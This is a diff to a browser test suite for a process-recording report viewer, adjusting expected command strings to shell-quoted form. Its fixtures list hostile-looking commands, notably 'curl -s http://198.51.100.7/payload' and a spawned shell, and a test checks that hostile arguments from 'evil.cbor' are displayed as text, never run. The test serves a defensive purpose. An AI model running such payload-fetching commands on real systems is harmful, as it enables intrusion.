@@ -8,6 +8,7 @@
  *
  * Not skipped: scripts/setup.sh installs chromium; without it this fails.
  */
+import { quoteArg } from "../cli/analysis/mod.ts";
 import "../cli/bundle/_zip.ts"; // zip.js without web workers
 import { Uint8ArrayReader, Uint8ArrayWriter, ZipReader } from "@zip.js/zip.js";
 import { type BrowserContext, chromium, type Page } from "playwright-core";
@@ -130,7 +131,7 @@ Deno.test("report: the tree expands, search finds an image, the timeline colours
         "ls /",
         "ls /",
         "sh",
-        "python3 -c serve()",
+        "python3 -c 'serve()'",
         "curl -s http://198.51.100.7/payload",
       ]);
       assertEquals(
@@ -158,7 +159,7 @@ Deno.test("report: the tree expands, search finds an image, the timeline colours
         "ls /",
         "sh",
         "sleep 0.2",
-        "python3 -c serve()",
+        "python3 -c 'serve()'",
         "curl -s http://198.51.100.7/payload",
       ]);
       const hit = row(page, "sleep 0.2");
@@ -408,7 +409,10 @@ Deno.test("report: hostile argv and image names are shown as text, never run or 
       let dialogs = 0;
       page.on("dialog", () => dialogs++);
       assertEquals(await page.title(), "procrec report: evil.cbor");
-      assertEquals(await rowCommands(page), [["sh", ...evil].join(" ")]);
+      // the command as the tree shows it: each argument quoted for a shell
+      assertEquals(await rowCommands(page), [
+        ["sh", ...evil].map(quoteArg).join(" "),
+      ]);
       assertEquals(
         await page.locator(".row img, .row b, .row script").count(),
         0,
